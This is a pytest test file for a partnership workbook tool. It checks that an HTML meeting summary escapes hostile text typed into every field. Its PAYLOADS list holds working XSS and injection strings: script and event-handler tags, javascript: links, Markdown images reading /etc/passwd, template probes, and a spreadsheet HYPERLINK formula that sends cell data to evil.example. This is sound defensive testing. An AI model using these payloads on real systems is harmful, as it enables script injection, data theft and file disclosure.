"""Hostile text in every field comes out of the summary as visible text, never as markup.

Each payload is typed into every text field the model has (partnership, organisations,
people, meetings, naming, resources, problem tree, actions, health checks...). The page
must then hold only the elements and attributes our templates write, no event handler,
no link and no image that is not an inline chart, and the payload must be readable as
plain text where its field is shown.
"""

from __future__ import annotations

import datetime as dt
import re

import pytest
from hypothesis import HealthCheck as HypothesisHealthCheck
from hypothesis import given, settings
from hypothesis import strategies as st

from workbook import (
    ActionItem,
    Cause,
    Comment,
    HealthCheck,
    Meeting,
    NameCandidate,
    Organisation,
    Outcome,
    Person,
    Problem,
    Resource,
    ReviewNote,
    Solution,
)
from workbook.export import render_summary
from workbook.model import AgendaItem, Decision, EvaluationAnswer
from workbook.model.base import MAX_NAME
from workbook.model.text import without_invisibles
from workbook.testing import make_workbook

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">click me</a>',
    "![secret](/etc/passwd)",
    "![x](file:///etc/passwd)",
    "[click](javascript:alert(document.cookie))",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "</td></tr></table></section><script>alert(1)</script>",
    "<!-- hidden --><b>bold</b>",
    "{{ 7*7 }} {% raw %} {# note #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="file:///etc/passwd"></object>',
    '<embed src="/etc/passwd">',
    '<form action="https://evil.example"><input name=x></form>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<svg><script>alert(1)</script></svg>",
    "\u202egnp.exe<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "<<script>script>alert(1)<</script>/script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
    "]]><![CDATA[<script>alert(1)</script>]]>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "👩🏽‍🔧 Zoë’s <b>shop</b>\u200b",
    "line one\n<script>\n  line three\tand a tab",
    '<a href="https://evil.example" style="position:fixed;inset:0">x</a>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section",
    "h1", "h2", "h3", "h4", "p", "dl", "dt", "dd", "ol", "ul", "li", "div", "table", "caption",
    "thead", "tbody", "tr", "th", "td", "time", "span", "strong", "code", "br", "figure",
    "img", "figcaption", "bdi",
}
ALLOWED_ATTRS = {"lang", "charset", "name", "content", "http-equiv", "class", "id",
                 "aria-labelledby", "scope", "colspan", "datetime", "src", "alt", "width",
                 "height", "role", "tabindex", "aria-label"}


def one_line(text: str, limit: int = MAX_NAME) -> str:
    """``text`` as a one-line field stores it: one line, NFC, no invisible characters."""
    return " ".join(without_invisibles(text).split())[:limit].strip() or "x"


def hostile_workbook(payload: str):
    """A workbook whose every text field holds ``payload`` (single-line where required)."""
    line = one_line(payload, MAX_NAME - 10)
    wb = make_workbook(working_title=f"{line} title", sector=f"{line} sector",
                       region=f"{line} region", intermediary=f"{line} board",
                       vision=payload, shared_goals=(payload,))
    today = dt.date.today()
    own = wb.add(Organisation(name=f"{line} own", partner_type="own", mission=payload,
                              competencies=payload, decision_making=payload, financing=payload,
                              culture=payload, brings=payload, needs=payload,
                              website=one_line(payload, 400)))
    firm = wb.add(Organisation(name=f"{line} firm", partner_type="business", mission=payload,
                               brings=payload, needs=payload))
    people = [wb.add(Person(name=f"{line} {n}", organisation_id=org.id, role=line,
                            email=f"p{n}@example.org"))
              for n, org in enumerate((own, firm, firm))]
    earlier = wb.add(Meeting(held_on=today - dt.timedelta(days=30), objective=payload[:1000],
                             location=line, agenda=(payload,), notes=payload))
    wb.add(Decision(meeting_id=earlier.id, text=payload))
    meeting = wb.add(Meeting(held_on=today - dt.timedelta(days=2), objective=payload[:1000],
                             location=line, agenda=(payload, "Second item"), notes=payload))
    wb.add(Decision(meeting_id=meeting.id, text=payload))
    wb.add(Decision(meeting_id=meeting.id, text="A plain decision"))
    for person in people:
        wb.add_attendee(meeting.id, person.id)
        wb.add_attendee(earlier.id, person.id)
    first = wb.add(NameCandidate(name=f"{line} name", proposed_by_id=people[0].id,
                                 rationale=payload, meeting_id=meeting.id))
    second = wb.add(NameCandidate(name=f"{line} other", rationale=payload))
    vote = wb.open_vote(meeting_id=meeting.id, opened_on=meeting.held_on)
    wb.cast_dots(vote.id, {first.id: 2, second.id: 1}, person_id=people[1].id)
    wb.close_vote(vote.id, closed_on=meeting.held_on)
    wb.choose_name(first.id, payload, chosen_on=meeting.held_on)
    resource = wb.add(Resource(name=f"{line} program", owner_id=firm.id, target_group=payload,
                               eligibility=payload, capacity=payload[:500],
                               funding_source=payload[:500], referral=payload, notes=payload))
    other = wb.add(Resource(name=f"{line} fund", owner_id=own.id, target_group=payload))
    problem = wb.add(Problem(statement=payload[:1000], raised_by_id=people[1].id,
                             meeting_id=meeting.id, notes=payload))
    why = wb.add(Cause(problem_id=problem.id, statement=f"{payload[:900]} why",
                       evidence=payload))
    root = wb.add(Cause(problem_id=problem.id, parent_id=why.id, statement=f"{payload[:900]} root",
                        evidence=payload, is_root=True))
    wb.link_resource(resource.id, root.id)
    wb.link_resource(other.id, root.id)
    wb.add(Solution(problem_id=problem.id, cause_id=root.id, description=payload[:2000],
                    solution_kind="existing", resource_id=resource.id, status="failed",
                    tried_before=True, lessons=payload))
    wb.add(Solution(problem_id=problem.id, cause_id=why.id, description=f"{payload[:1900]} x"))
    for index, (source, due) in enumerate(((meeting, 10), (earlier, -5), (earlier, 20))):
        wb.add(ActionItem(action=f"{payload[:900]} {index}", organisation_id=firm.id,
                          owner_id=people[index].id, due_on=today + dt.timedelta(days=due),
                          meeting_id=source.id, notes=payload))
    wb.add(HealthCheck(organisation_id=firm.id, checked_on=today, notes=payload))
    wb.add(ReviewNote(text=payload, organisation_id=firm.id))
    wb.add(Comment(author=line, text=payload, meeting_id=meeting.id))
    wb.add(Outcome(description=f"{line} outcome", measure=payload[:500], owner_id=own.id))
    _meeting_room(wb, meeting, earlier, people, payload, line)
    return wb, meeting


def _meeting_room(wb, meeting, earlier, people, payload: str, line: str) -> None:
    """Time boxes, a reviewed action, a superseding decision and evaluations, all hostile."""
    item = wb.add(AgendaItem(meeting_id=meeting.id, title=f"{line[:250]} item", minutes=5))
    wb.record_time_spent(item.id, 400)
    old = wb.add(Decision(meeting_id=earlier.id, text=f"{payload[:1900]} old",
                          rationale=payload[:2000]))
    wb.record_decision(Decision(meeting_id=meeting.id, text=f"{payload[:1900]} new",
                                rationale=payload[:2000], agenda_item_id=item.id,
                                supersedes_id=old.id, method="vote"),
                       agreed=[people[0].id], stood_aside=[people[1].id])
    action = wb.add(ActionItem(action=f"{payload[:900]} reviewed", owner_id=people[0].id,
                               meeting_id=earlier.id))
    wb.review_action(meeting.id, action.id, "dropped", reason=payload[:1000])
    for score in (2, 4, 5):
        wb.add(EvaluationAnswer(meeting_id=meeting.id, objective_met=score,
                                comment=payload[:1000]))


def assert_inert(html: str, page) -> None:
    """Only our own elements and attributes; no handler, link, script or outside image."""
    assert "<script" not in html.lower()
    for element in page.elements:
        assert element.tag in ALLOWED_TAGS, element
        for name, value in element.attrs.items():
            assert name in ALLOWED_ATTRS, (element.tag, name)
            assert not name.startswith("on")
            assert "javascript:" not in (value or "").lower()
        if element.tag == "img":
            assert re.match(r"data:image/(png|svg\+xml);base64,[A-Za-z0-9+/=]+$",
                            element.attrs["src"]), element.attrs["src"][:80]
    assert len(page.tags("style")) == 1 and len(page.tags("title")) == 1
    assert [e.attrs.get("http-equiv") for e in page.tags("meta") if e.attrs.get("http-equiv")
            ] == ["Content-Security-Policy"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_hostile_text_in_every_field_stays_text(payload, parse_page):
    """Every field holding the payload renders as visible text and adds no markup, in the
    partners' summary and in the facilitator's record (notes and comments too)."""
    wb, meeting = hostile_workbook(payload)
    try:
        rendered = render_summary(wb, meeting.id, charts=False)
        record = render_summary(wb, meeting.id, charts=False, edition="facilitator")
    finally:
        wb.close()
    record_page = parse_page(record.html)
    assert_inert(record.html, record_page)
    assert payload in record_page.sections["notes"]
    assert payload in record_page.sections["comments"]
    assert "notes" not in parse_page(rendered.html).sections
    page = parse_page(rendered.html)
    assert_inert(rendered.html, page)
    assert payload in page.sections["glance"]  # the decision and the actions, at a glance
    line = one_line(payload, MAX_NAME - 10)
    assert page.headings[0] == ("h1", f"{line} name")
    sections = page.sections
    assert payload[:1000] in sections["meeting"]  # objective and agenda, as typed
    assert f"{line} own" in sections["attendance"] and f"{line} 1" in sections["attendance"]
    assert payload in [e.text for e in page.tags("span")]  # a decision
    assert sections["offers"].count(payload) >= 4  # brings and needs of two partners
    assert f"{line} other" in sections["naming"] and payload in sections["naming"]
    assert f"{line} program" in sections["resources"] and payload in sections["resources"]
    assert f"{payload[:900]} root" in sections["framing"] and payload in sections["framing"]
    assert f"{payload[:900]} 0" in sections["actions"] and f"{payload[:900]} 1" in sections[
        "actions"]
    # Fields kept out of a partner summary stay out, escaped or not.
    assert "p1@example.org" not in rendered.html


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[5], PAYLOADS[13]], ids=range(3))
def test_hostile_text_with_charts_stays_text(payload, parse_page):
    """With charts drawn, alt texts and captions escape the payload too."""
    wb, meeting = hostile_workbook(payload)
    try:
        rendered = render_summary(wb, meeting.id)
    finally:
        wb.close()
    assert_inert(rendered.html, parse_page(rendered.html))


def test_markdown_image_paths_read_nothing_from_disk(parse_page):
    """A Markdown image pointing at a local file stays text: no image, no file content."""
    payload = "![secret](/etc/passwd) ![x](file:///etc/hostname)"
    wb, meeting = hostile_workbook(payload)
    try:
        rendered = render_summary(wb, meeting.id, charts=False)
    finally:
        wb.close()
    page = parse_page(rendered.html)
    assert payload in page.text
    assert not page.tags("img")
    assert "root:" not in rendered.html
    with open("/etc/hostname", encoding="utf-8") as handle:
        hostname = handle.read().strip()
    assert not hostname or f">{hostname}<" not in rendered.html


def test_notebook_html_outputs_are_escaped_too():
    """The notebook beside the page carries the same escaped fragments, raw text only as data."""
    payload = PAYLOADS[1]
    wb, meeting = hostile_workbook(payload)
    try:
        rendered = render_summary(wb, meeting.id, charts=False)
    finally:
        wb.close()
    for cell in rendered.notebook.cells:
        for output in cell.outputs:
            html = output.data.get("text/html", "")
            assert "<img src=x" not in html and "onerror=alert" not in html.replace(
                "onerror=alert(1)&gt;", "")


_TYPED = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Cn"), blacklist_characters="\r")
    | st.sampled_from(list("<>&\"'/=`\n\t")), min_size=1, max_size=60,
).filter(lambda s: s.strip())


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HypothesisHealthCheck.too_slow])
@given(decision=_TYPED, name=_TYPED, needs=_TYPED)
def test_any_typed_text_round_trips_as_visible_text(decision, name, needs, parse_page):
    """Whatever is typed, the reader sees exactly the stored text and no extra element."""
    wb = make_workbook()
    try:
        org = wb.add(Organisation(name=one_line(name), needs=needs))
        person = wb.add(Person(name="Pat", organisation_id=org.id))
        meeting = wb.add(Meeting(held_on=dt.date.today(), objective="Check escaping"))
        stored = wb.add(Decision(meeting_id=meeting.id, text=decision)).text
        wb.add_attendee(meeting.id, person.id)
        stored_org = wb.get(Organisation, org.id)
        rendered = render_summary(wb, meeting.id, charts=False)
    finally:
        wb.close()
    page = parse_page(rendered.html)
    assert_inert(rendered.html, page)
    assert stored in [e.text for e in page.tags("span")]  # a decision
    assert stored_org.name in [e.text for e in page.tags("th")]
    assert stored_org.needs.strip() in [e.text for e in page.tags("td")]
